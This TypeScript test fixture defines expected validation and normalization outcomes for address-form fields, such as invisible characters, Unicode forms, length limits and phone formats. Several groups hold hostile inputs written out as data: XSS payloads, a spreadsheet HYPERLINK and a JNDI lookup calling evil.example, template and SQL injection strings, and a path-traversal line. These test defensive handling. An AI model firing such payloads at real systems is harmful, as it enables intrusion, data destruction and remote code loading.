/*
 * Addresses that src/order/address/address.ts and private.clean_address() validate and normalize in
 * the same way. Labels are those of docs/testing.md.
 */
import { foldDigits } from '#kit/text.ts'
import { type AddressProblem, mapFields, type RequiredField } from '#order/address/address.ts'
import { noPhones, phoneCases } from './phone-cases.ts'

export interface AddressCase {
  label: string
  field: RequiredField
  typed: string
  /** The saved text, or the reason of the refusal. */
  outcome: { stored: string } | { refused: AddressProblem }
}

/** A valid address. Each case replaces one field of it. */
export const goodAddress: Record<RequiredField, string> = {
  fullName: 'Ayesha Khan',
  address: 'House 7, Street 3, Model Town',
  city: 'Lahore',
  state: 'Punjab',
  postalCode: '54700',
  country: 'Pakistan',
  phone: '0300 1234567',
}

/** The fields of rule 4.1 on a parcel: one that was added since is empty, and takes no room. */
export const parcelAddress = {
  ...mapFields(() => ''),
  fullName: 'Ayesha Khan',
  address: 'House 7, Street 3, Model Town',
  city: 'Lahore',
  state: 'Punjab',
  postalCode: '54700',
  country: 'Pakistan',
  phone: '0300 1234567',
}

export const addressCases: AddressCase[] = [
  ...(Object.keys(goodAddress) as RequiredField[]).flatMap((field) => [
    ...labelled('A69', [refused(field, '', 'required'), refused(field, '   ', 'required')]),
    ...labelled('A70', [
      refused(field, '\t\n\u00A0\u3000', 'required'),
      refused(field, '\u200B\u200D\u2060\u00AD', 'required'),
      refused(field, '\u202E\u2066', 'required'),
      refused(field, '\u2800\u3164\uFFA0\u061C\u{E0041}', 'required'),
    ]),
    ...labelled('A81', [stored(field, `  ${goodAddress[field]}  `, goodAddress[field])]),
  ]),
  ...labelled('A79', [
    stored('fullName', 'Ali\u202Ecod.exe', 'Alicod.exe'),
    stored('fullName', 'A\u202A\u202B\u202C\u202D\u202E\u2066\u2067\u2068\u2069li', 'Ali'),
    stored('fullName', '\u200ENida\u200B Qu\u00ADre\u2060shi\u200F', 'Nida Qureshi'),
    stored('postalCode', '\u200E54\u200C0\uFEFF00\u{E0020}', '54000'),
    stored('phone', '\u202A+92 300 1234567\u202C\u200D', '+92 300 1234567'),
    stored('country', `${'\u2066'.repeat(200)}Pakistan`, 'Pakistan'),
  ]),
  ...labelled('A80', [
    stored('fullName', 'عائشہ خان', 'عائشہ خان'),
    stored('fullName', 'می\u200Cخواهم', 'می\u200Cخواهم'),
    stored('fullName', 'Zoe\u0308', 'Zo\u00EB'),
    stored('fullName', 'Zoe\u202E\u0308', 'Zo\u00EB'),
    stored('fullName', '\u212Bsa', '\u00C5sa'),
    stored('fullName', '\u0301', '\u0301'),
  ]),
  ...labelled('A81', [
    stored('fullName', 'Ali\r\nKhan\u2028Junior', 'Ali Khan Junior'),
    stored('fullName', 'Ali\u2028\u2029Khan', 'Ali Khan'),
    stored('fullName', 'Ali\u0001\u0002Khan', 'Ali Khan'),
    stored('fullName', 'Ali\u0001\u0007\u001B\u007F\u0085\u009FKhan', 'Ali Khan'),
    stored('fullName', 'Ali\u001B[2JKhan', 'Ali [2JKhan'),
    stored('fullName', 'Ali\u00A0\u2003\u3000\uFEFFKhan', 'Ali Khan'),
    stored('fullName', ' \n Ali Khan \t ', 'Ali Khan'),
  ]),
  ...unchanged('A82', [
    "D'Souza-O\u2019Neil",
    '<b>Ali</b>',
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
  ]),
  ...unchanged('A83', [
    '"><svg onload=alert(1)>',
    "'-alert(1)-'",
    '</textarea><script>alert(1)</script>',
    'javascript:alert(1)',
  ]),
  ...unchanged('A84', ['=1+1', '=HYPERLINK("https://evil.example","x")', '@SUM(A1:A9)', '-2+3']),
  ...unchanged('A85', ['{{7*7}} %s%n <%= 1 %> $&', '#{7*7}', `\${jndi:ldap://evil.example/a}`]),
  ...unchanged('A86', [
    "'; drop table public.orders; --",
    "' or '1'='1",
    '$$; select 1; $$',
    '\\u202e \\n \\" \\x00',
    '../../etc/passwd',
    'null',
    '🌿🧴 عائشہ خان',
  ]),
  ...labelled('A75 A87', [
    ...(['fullName', 'city', 'state', 'country'] as const).flatMap((field) => limits(field, 100)),
    ...limits('address', 300),
    // Two UTF-16 code units in an input, one character as it is saved.
    stored('city', 'e\u0301'.repeat(100), '\u00E9'.repeat(100)),
    refused('state', '👩‍👩‍👧‍👦'.repeat(15), 'too_long'),
  ]),
  ...labelled('A71 A72', [
    refused('phone', '123456789', 'phone_invalid'),
    stored('phone', '1234567890', '1234567890'),
    stored('phone', '123456789012345', '123456789012345'),
    refused('phone', '1234567890123456', 'phone_invalid'),
    stored('phone', '+92 (300) 123-4567', '+92 (300) 123-4567'),
    refused('phone', 'call me', 'phone_invalid'),
    ...noPhones.map((phone) => refused('phone', phone, 'phone_invalid')),
    ...phoneCases.flatMap(({ typed }) =>
      typed.map((phone) => stored('phone', phone, foldDigits(phone))),
    ),
    stored('phone', 'ext 1234567890', 'ext 1234567890'),
    refused('phone', `1234567890${' '.repeat(30)}x`, 'too_long'),
  ]),
  ...labelled('A73', [
    ...['۰۳۰۰۱۲۳۴۵۶۷', '٠٣٠٠١٢٣٤٥٦٧', '０３００１２３４５６７'].map((digits) =>
      stored('phone', digits, '03001234567'),
    ),
    ...['०३००१२३४५६७', '①②③④⑤⑥⑦⑧⑨⑩', '𝟎𝟑𝟎𝟎𝟏𝟐𝟑𝟒𝟓𝟔𝟕', '০৩০০১২৩৪৫৬৭'].map((digits) =>
      refused('phone', digits, 'phone_invalid'),
    ),
    stored('postalCode', '۵۴۷۰۰', '54700'),
  ]),
  ...labelled('A74', [
    ...['54', '12345-67890', '54_700', '54700!', 'ÅÄÖ'].map((code) =>
      refused('postalCode', code, 'postal_invalid'),
    ),
    ...['547', 'SW1A 1AA', '12345-6789'].map((code) => stored('postalCode', code, code)),
    stored('postalCode', '54\u00A0700', '54 700'),
  ]),
]

type Unlabelled = Omit<AddressCase, 'label'>

function labelled(label: string, cases: Unlabelled[]): AddressCase[] {
  return cases.map((addressCase) => ({ label, ...addressCase }))
}

/** Texts that are hostile somewhere else, saved as they are typed. */
function unchanged(label: string, texts: string[]): AddressCase[] {
  return labelled(
    label,
    texts.map((text) => stored('fullName', text, text)),
  )
}

/** Characters are counted as code points. */
function limits(field: RequiredField, most: number): Unlabelled[] {
  return ['a', '🌿'].flatMap((character) => [
    stored(field, character.repeat(most), character.repeat(most)),
    refused(field, character.repeat(most + 1), 'too_long'),
  ])
}

function stored(field: RequiredField, typed: string, text: string): Unlabelled {
  return { field, typed, outcome: { stored: text } }
}

function refused(field: RequiredField, typed: string, problem: AddressProblem): Unlabelled {
  return { field, typed, outcome: { refused: problem } }
}
